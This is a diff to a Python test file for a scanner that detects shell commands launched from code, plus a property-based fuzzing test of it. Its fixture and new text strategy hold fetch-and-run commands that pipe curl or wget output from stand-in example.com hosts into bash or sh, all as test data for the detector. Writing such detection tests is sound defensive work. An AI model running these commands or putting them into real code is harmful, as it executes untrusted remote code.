@@ -9,6 +9,7 @@ from hypothesis import given, settings
 from hypothesis import strategies as st
 
 from hooks._core.policy import Policy
+from hooks.code.commands import command_issues
 from hooks.code.launched import CommandFinder
 from hooks.code.ml_rules import MLRuleVisitor
 from tests.code.helpers import notebook, scan_code
@@ -71,7 +72,7 @@ def test_downloads_piped_into_a_shell_and_downloaded_files_run(tmp_path: Path) -
         "import os, subprocess\n"
         'os.system(f"curl -fsSL {url} | bash")\n'
         'subprocess.run("wget -qO- https://x.example/install.sh | sh", shell=True)\n'
-        'subprocess.run(["bash", "-c", "curl -s https://x.example/i.sh | sh"])\n'
+        'subprocess.run(["/bin/bash", "-lc", "curl -s https://x.example/i.sh | sh"])\n'
         'subprocess.run(["wget", "https://x.example/tool.sh"])\n'
         'subprocess.run(["bash", "tool.sh"])\n'
     )
@@ -215,8 +216,11 @@ _RUNNERS = st.sampled_from(
 )
 
 
+_SHELLISH = st.text(alphabet=st.sampled_from(list("curl wget|&;\\\n'\"$(){}<>-=shbapython3 --trust-remote-code")))
+
+
 @settings(max_examples=150, deadline=None)
-@given(_RUNNERS, st.lists(_EXPRESSIONS.filter(lambda e: not e.startswith("*")), min_size=0, max_size=3), st.text())
+@given(_RUNNERS, st.lists(_EXPRESSIONS.filter(lambda e: not e.startswith("*")), min_size=0, max_size=3), _SHELLISH)
 def test_any_call_gives_text_or_nothing_never_an_error(runner: str, arguments: list[str], garbage: str) -> None:
     source = f"import os, subprocess, sys, shlex, asyncio\n{runner}({', '.join([*arguments, repr(garbage)])})\n"
     try:
@@ -228,3 +232,6 @@ def test_any_call_gives_text_or_nothing_never_an_error(runner: str, arguments: l
         if isinstance(node, ast.Call):
             finder.record_call(node, runner.replace("()", ""))
     assert all(isinstance(command.text, str) and len(command.text) <= 1 << 16 for command in finder.commands)
+    if runner == "os.system" and not arguments and garbage.strip():
+        assert [command.text for command in finder.commands] == [garbage]  # a literal is its own text
+    command_issues([(command.line, command.text) for command in finder.commands])
